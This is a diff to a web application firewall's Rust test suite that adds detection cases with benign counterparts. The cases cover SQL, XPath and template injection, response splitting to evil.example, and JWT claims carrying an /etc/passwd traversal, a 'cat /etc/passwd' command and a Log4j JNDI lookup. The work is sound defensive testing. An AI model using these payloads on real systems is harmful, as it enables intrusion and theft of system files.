@@ -8,8 +8,8 @@
 mod common;
 
 use common::{
-    assert_header, assert_placed, assert_queries, form_blocked, inspect_with, json_blocked,
-    multipart_blocked, query_blocked, verdict, Place,
+    assert_header, assert_placed, assert_queries, every_place_but, form_blocked, inspect_with,
+    json_blocked, multipart_blocked, query_blocked, verdict, Place, EVERY_PLACE,
 };
 use rampart_waf::Policy;
 
@@ -680,4 +680,184 @@ fn windows_variables_lost_to_a_second_percent_decoding() {
             "A%20B | C%2FD",
         ],
     );
+}
+
+/// Session 10: SQL that continues a condition with a JSON or array
+/// operator (PostgreSQL `->>`, `#>`, `@>`, `?|`, a `::jsonb` cast), and a
+/// scalar subquery where ORDER BY, LIMIT or a column list expects a name
+/// or a number. Before: score 0 each.
+#[test]
+fn sql_json_operators_and_scalar_subqueries() {
+    // A number's context is the whole value (no text before it).
+    let whole = every_place_but(Place::AfterFiller);
+    assert_placed(
+        true,
+        &whole,
+        &[
+            "1 and data->>'role'='admin'",
+            "1 and info->'a'->>'b' = 'x'",
+            "(select 1)",
+        ],
+    );
+    assert_placed(
+        true,
+        EVERY_PLACE,
+        &[
+            "x' or payload::jsonb ? 'admin'--",
+            "' or attrs ?| array['a']--",
+            "' and doc #>> '{a,b}' = 'x'--",
+            "name,(select 1)",
+            "1 limit (select 1)",
+            "id desc,(select null)",
+            "price,(select @@version)",
+        ],
+    );
+    assert_placed(
+        false,
+        EVERY_PLACE,
+        &[
+            "Use data->>'name' to read a JSON field",
+            "q and a->'b'",
+            "Rock and roll -> 'best of'",
+            "the arrow -> points to 'next'",
+            "sort=name,price",
+            "order=created_at desc",
+            "(select one)",
+            "Please (select all that apply)",
+            "Size (select 1 of 3)",
+            "(Select a category)",
+        ],
+    );
+}
+
+/// Session 10: XPath injection (no rule read it): a quote break-out, then
+/// a union of a location path or a condition on the document's nodes.
+/// Before: score 0 each.
+#[test]
+fn xpath_break_outs() {
+    assert_placed(
+        true,
+        EVERY_PLACE,
+        &[
+            "'] | //user/*[contains(*,'",
+            "' or string-length(name(/*[1]))=5 or ''='",
+            "' or //user[1]/password='x",
+            "' | //* | '",
+            "')] | //password | a[('",
+            "x' and count(/*)=1 and 'a'='a",
+        ],
+    );
+    assert_placed(
+        false,
+        EVERY_PLACE,
+        &[
+            "he said 'hi' | //comment",
+            "'quoted' | //www.example.com",
+            "see 'docs' | /*comment*/",
+            "Tom's | //twitter.com/tom",
+            "O'Neil or /home/x",
+            "it's or //",
+        ],
+    );
+}
+
+/// Session 10: a template-evaluation probe is arithmetic of number
+/// literals between any engine's delimiters (doT's `{{=`, an array
+/// `{{[7*7]}}`, Razor's `@(…)`, `%{…}`, `{%= %}`), not the spellings of
+/// one list. Before: score 0 each. (Not cookies: rule 9006 leaves them to
+/// 9002's spellings, or a consent cookie's `{` would open it on every request.)
+#[test]
+fn template_arithmetic_probes_in_any_delimiters() {
+    let places = every_place_but(Place::Cookie);
+    assert_placed(
+        true,
+        &places,
+        &[
+            "{{= 7*7}}",
+            "{{[7*7]}}",
+            "@(1+2)",
+            "%{7*7}",
+            "{%= 7*7 %}",
+            "{{ 1337 - 1 }}",
+            "${ 49 / 7 }",
+            "{{'7'*7}}",
+        ],
+    );
+    assert_placed(
+        false,
+        EVERY_PLACE,
+        &[
+            "Total {{price}}",
+            "{{ user.name }} ordered {{count}}",
+            "`Total: ${a * b}`",
+            "{{count + 1}}",
+            "<%= i + 1 %>",
+            "{7*7}",
+            "7*7=49",
+            "Version 2.0 (2024) - 3*4 grid",
+        ],
+    );
+}
+
+/// Session 10: response splitting in a body field through a Refresh header
+/// with its own value shape (`Refresh: 0;url=…`), as Location already was.
+/// Before: score 0 in a form or JSON body.
+#[test]
+fn refresh_header_injected_in_a_body_field() {
+    assert_placed(
+        true,
+        &[Place::Form, Place::Json, Place::Multipart],
+        &[
+            "x\r\nRefresh: 0;url=//evil.example",
+            "x\nrefresh:5; URL=https://evil.example/",
+        ],
+    );
+    assert_placed(
+        false,
+        &[Place::Form, Place::Json, Place::Multipart],
+        &["Line1\nRefresh: please", "Note\nrefresh: 5 minutes later"],
+    );
+}
+
+/// A signed JSON Web Token whose payload is `claims`.
+fn jwt(claims: &str) -> String {
+    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+    use base64::Engine;
+    let h = URL_SAFE_NO_PAD.encode(br#"{"alg":"HS256","typ":"JWT"}"#);
+    let p = URL_SAFE_NO_PAD.encode(claims.as_bytes());
+    format!("{h}.{p}.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c")
+}
+
+/// Session 10: attacks inside a JSON Web Token's claims (SQL in `sub`,
+/// markup in `name`, a traversal or a command in `kid`, a Log4j lookup)
+/// were never read: a dotted token with digits was taken for a plain id
+/// and skipped. Now its parts are decoded and each claim read, in a
+/// parameter, a form, JSON, a cookie and a Bearer token. Before: score 0.
+#[test]
+fn attacks_inside_jwt_claims() {
+    let attacks = [
+        r#"{"sub":"' or 1=1--","iat":1516239022}"#,
+        r#"{"name":"<script>alert(1)</script>"}"#,
+        r#"{"kid":"../../../../etc/passwd"}"#,
+        r#"{"kid":"key;cat /etc/passwd"}"#,
+        r#"{"user":"${jndi:ldap://x.example/a}"}"#,
+    ];
+    let benign = [
+        r#"{"user":"alice","role":"user","exp":1700000000}"#,
+        r#"{"sub":"1234567890","name":"John O'Neil","iat":1516239022}"#,
+        r#"{"iss":"https://auth.example.com/","aud":["api"],"scope":"read:orders write:cart"}"#,
+        r#"{"email":"a.b@example.com","roles":["admin","editor"],"path":"/account/orders"}"#,
+    ];
+    for (expect, claims) in [(true, &attacks[..]), (false, &benign[..])] {
+        let tokens: Vec<String> = claims.iter().map(|c| jwt(c)).collect();
+        let t: Vec<&str> = tokens.iter().map(String::as_str).collect();
+        assert_placed(
+            expect,
+            &[Place::Query, Place::Form, Place::Json, Place::Cookie],
+            &t,
+        );
+        let bearer: Vec<String> = tokens.iter().map(|t| format!("Bearer {t}")).collect();
+        let b: Vec<&str> = bearer.iter().map(String::as_str).collect();
+        assert_header("Authorization", expect, &b);
+    }
 }
